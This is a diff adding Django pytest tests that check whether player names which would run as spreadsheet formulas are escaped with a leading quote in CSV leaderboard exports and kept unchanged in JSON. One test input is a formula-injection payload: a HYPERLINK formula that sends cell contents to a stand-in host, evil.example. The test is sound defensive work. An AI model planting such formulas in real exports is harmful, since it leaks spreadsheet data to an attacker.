@@ -9,6 +9,7 @@ from typing import Any
 import pytest
 from django.test import Client
 
+from accounts.models import Player
 from tests.web.tour import Tour
 from titles.models import TitleTerm
 
@@ -171,3 +172,24 @@ def test_master_registry(tour: Tour) -> None:
 )
 def test_unknown_exports_are_404(tour: Tour, url: str) -> None:
     download(url, 404)
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-cmd", "@SUM(A1)", "\tx", "\rx"],
+)
+def test_a_name_a_spreadsheet_would_run_is_written_as_text(tour: Tour, name: str) -> None:
+    Player.objects.filter(external_id="p0000008").update(name=name)
+
+    _, rows = csv_rows("/exports/events/2021-W05-F/leaderboard.csv")
+    as_json = json.loads(body(download("/exports/events/2021-W05-F/leaderboard.json")))
+
+    assert rows[0]["name"] == "'" + name
+    assert rows[0]["total"] == "175"
+    assert as_json["rows"][0]["name"] == name  # JSON is data, not a sheet: as stored
+
+
+def test_negative_scores_stay_numbers_in_the_csv(tour: Tour) -> None:
+    _, rows = csv_rows("/exports/events/2021-W05-F/leaderboard.csv")
+
+    assert any(row["total"].startswith("-") for row in rows)
